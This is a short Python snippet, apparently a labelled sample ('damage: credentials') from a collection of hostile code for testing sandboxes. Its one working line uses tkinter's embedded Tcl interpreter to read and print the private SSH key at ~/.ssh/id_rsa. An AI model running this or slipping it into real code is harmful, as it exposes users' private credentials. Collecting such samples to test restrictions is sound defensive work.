# And reads them.
# damage: credentials
# needs: linux, _tkinter
import tkinter

print(tkinter.Tcl().eval("read [open ~/.ssh/id_rsa]"))
